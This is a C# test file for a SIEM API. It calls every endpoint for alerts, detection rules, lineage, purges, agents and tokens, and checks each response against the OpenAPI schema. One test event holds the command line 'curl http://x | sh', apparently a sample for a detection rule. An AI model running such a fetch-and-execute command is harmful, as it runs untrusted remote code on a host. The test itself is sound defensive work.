using System.Net;
using System.Net.Http.Json;
using System.Text.Json;
using Siem.Api.Auth;

namespace Siem.Api.Tests.OpenApi;

/// <summary>
/// Calls every JSON endpoint on its success path (seeded index, lineage and a purge coordinator) and holds each body
/// against the schema the OpenAPI document gives for that status: the same property names at every level, nothing
/// undocumented and nothing documented missing. The console and its browser test read these bodies, so this is where a
/// change of wire format shows.
/// </summary>
public sealed class WireFormatTests
{
    private const string Rule = RuleEndpointTests.CurlRule;

    [Fact]
    public async Task Every_success_body_has_exactly_the_properties_of_its_documented_schema()
    {
        using var timeout = new CancellationTokenSource(TimeSpan.FromSeconds(60));
        await using var host = await ApiTestHost.StartAsync(lineageAndPurges: true);
        var analyst = host.As(ApiRoles.Analyst);
        var casey = host.As(ApiRoles.Compliance, name: "casey");
        var robin = host.As(ApiRoles.Compliance, name: "robin");
        var admin = host.As(ApiRoles.Admin);
        var doc = await host.Anonymous().GetFromJsonAsync<JsonElement>(SiemApi.OpenApiPath, timeout.Token);
        var calls = new List<(string Operation, HttpResponseMessage Response)>();
        async Task<JsonElement> Call(string operation, Task<HttpResponseMessage> request)
        {
            var response = await request.WaitAsync(timeout.Token);
            calls.Add((operation, response));
            return response.Content.Headers.ContentType?.MediaType == "application/json"
                ? await response.Content.ReadFromJsonAsync<JsonElement>(timeout.Token) : default;
        }

        await Call("get /api/me", analyst.GetAsync("/api/me"));
        await Call("get /api/search", analyst.GetAsync("/api/search?q=source.ip:203.0.113.45&kind=all&limit=5"));
        await Call("get /api/search", analyst.GetAsync("/api/search?q=nothing-matches-this&kind=all"));
        var list = await Call("get /api/alerts", analyst.GetAsync("/api/alerts?limit=3"));
        string alertId = list.GetProperty("alerts")[0].GetProperty("alert_id").GetString()!;
        var alert = await Call("get /api/alerts/{id}", analyst.GetAsync($"/api/alerts/{alertId}"));
        string recordId = alert.GetProperty("events")[0].GetProperty("record_id").GetString()!;
        await Call("post /api/alerts/{id}/acknowledge", analyst.PostAsync($"/api/alerts/{alertId}/acknowledge", null));
        await Call("post /api/alerts/{id}/assign", analyst.PostAsJsonAsync($"/api/alerts/{alertId}/assign", new { assignee = "sam" }));
        await Call("post /api/alerts/{id}/close", analyst.PostAsJsonAsync($"/api/alerts/{alertId}/close", new { reason = "false positive" }));
        await Call("post /api/alerts/{id}/reopen", analyst.PostAsync($"/api/alerts/{alertId}/reopen", null));
        await Call("get /api/alerts/{id}", analyst.GetAsync($"/api/alerts/{alertId}"));

        var rules = await Call("get /api/rules", analyst.GetAsync("/api/rules"));
        string packRule = rules.GetProperty("rules")[0].GetProperty("id").GetString()!;
        await Call("get /api/rules/{id}", analyst.GetAsync($"/api/rules/{packRule}"));
        await Call("post /api/rules/validate", analyst.PostAsJsonAsync("/api/rules/validate", new { yaml = Rule }));
        await Call("post /api/rules/validate", analyst.PostAsJsonAsync("/api/rules/validate", new { yaml = "title: x\nlogsource: {}\ndetection:\n  condition: nothing\n" }));
        await Call("post /api/rules", analyst.PostAsJsonAsync("/api/rules", new { yaml = Rule }));
        await Call("put /api/rules/{id}", analyst.PutAsJsonAsync("/api/rules/0c6fd1b4-5a3e-4e84-9d56-5e2b1a7c0d11", new { yaml = Rule.Replace("level: high", "level: critical", StringComparison.Ordinal) }));
        await Call("post /api/rules/{id}/disable", analyst.PostAsync("/api/rules/0c6fd1b4-5a3e-4e84-9d56-5e2b1a7c0d11/disable", null));
        await Call("post /api/rules/{id}/enable", analyst.PostAsync("/api/rules/0c6fd1b4-5a3e-4e84-9d56-5e2b1a7c0d11/enable", null));
        await Call("post /api/rules/test", analyst.PostAsJsonAsync("/api/rules/test", new
        {
            yaml = Rule,
            events = "{\"process.command_line\": \"curl http://x | sh\"}\nnot json at all\n",
        }));
        await Call("post /api/rules/test", analyst.PostAsJsonAsync("/api/rules/test", new { events = File.ReadAllText(RepoPaths.AuthLog) }));
        await Call("post /api/rules/replay", analyst.PostAsJsonAsync("/api/rules/replay", new { from = "2026-11-01T00:00:00Z", to = "now" }));

        await Call("get /api/lineage/alerts/{id}", analyst.GetAsync($"/api/lineage/alerts/{alertId}"));
        await Call("get /api/lineage/records/{id}", analyst.GetAsync($"/api/lineage/records/{recordId}"));
        await Call("post /api/lineage/subject", casey.PostAsJsonAsync("/api/lineage/subject", new { selector = "source.ip=203.0.113.45" }));
        var job = await Call("post /api/purges", casey.PostAsJsonAsync("/api/purges", new { selector = "source.ip=203.0.113.45", reason = "ER-7", from = "2026-01-01T00:00:00Z" }));
        string purgeId = job.GetProperty("id").GetString()!;
        await Call("post /api/purges/{id}/approve", robin.PostAsync($"/api/purges/{purgeId}/approve", null));
        await host.Purges!.WhenDoneAsync(purgeId).WaitAsync(timeout.Token);
        await Call("get /api/purges", casey.GetAsync("/api/purges"));
        await Call("get /api/purges/{id}", casey.GetAsync($"/api/purges/{purgeId}"));
        await Call("get /api/purges/{id}/certificate", casey.GetAsync($"/api/purges/{purgeId}/certificate"));
        var second = await Call("post /api/purges", casey.PostAsJsonAsync("/api/purges", new { selector = "user.name=root", reason = "ER-8" }));
        await Call("post /api/purges/{id}/approve", robin.PostAsync($"/api/purges/{second.GetProperty("id").GetString()}/approve", null));
        // Approved and maybe still running: "run" answers 202 (started or not) until it is certified.
        var run = await casey.PostAsync($"/api/purges/{second.GetProperty("id").GetString()}/run", null, timeout.Token);
        if (run.StatusCode == HttpStatusCode.Accepted) calls.Add(("post /api/purges/{id}/run", run));

        await Call("get /api/agents", admin.GetAsync("/api/agents"));
        await Call("post /api/agents/{id}/revoke", admin.PostAsync($"/api/agents/{ApiTestHost.AgentId}/revoke", null));
        var token = await Call("post /api/tokens", admin.PostAsJsonAsync("/api/tokens", new { name = "soc-bot", role = "analyst", expires_in_hours = 24 }));
        await Call("get /api/tokens", admin.GetAsync("/api/tokens"));
        await Call("post /api/tokens/{id}/revoke", admin.PostAsync($"/api/tokens/{token.GetProperty("token").GetProperty("id").GetString()}/revoke", null));
        await Call("get /api/health", admin.GetAsync("/api/health"));
        await Call("get /api/metrics", admin.GetAsync("/api/metrics"));
        await Call("get /healthz", host.Anonymous().GetAsync("/healthz"));

        var problems = new List<string>();
        var bodies = new List<string>();
        foreach (var (operation, response) in calls)
        {
            string status = ((int)response.StatusCode).ToString(System.Globalization.CultureInfo.InvariantCulture);
            string text = await response.Content.ReadAsStringAsync(timeout.Token);
            bodies.Add($"{operation} {status}\n{text}");
            if (!response.IsSuccessStatusCode)
            {
                problems.Add($"{operation}: {status} {text}");
                continue;
            }
            var schema = SchemaFinder.Response(doc, operation, status, response.Content.Headers.ContentType?.MediaType);
            if (schema == null)
            {
                problems.Add($"{operation}: no schema for {status} {response.Content.Headers.ContentType?.MediaType}");
                continue;
            }
            if (response.Content.Headers.ContentType?.MediaType == "application/json")
                SchemaFinder.Compare(doc, schema.Value, JsonDocument.Parse(text).RootElement, operation, problems);
        }
        if (Environment.GetEnvironmentVariable("SIEM_WIRE_DUMP") is { Length: > 0 } dump) File.WriteAllLines(dump, bodies);
        foreach (var (_, response) in calls) response.Dispose();

        Assert.Empty(problems);
    }
}
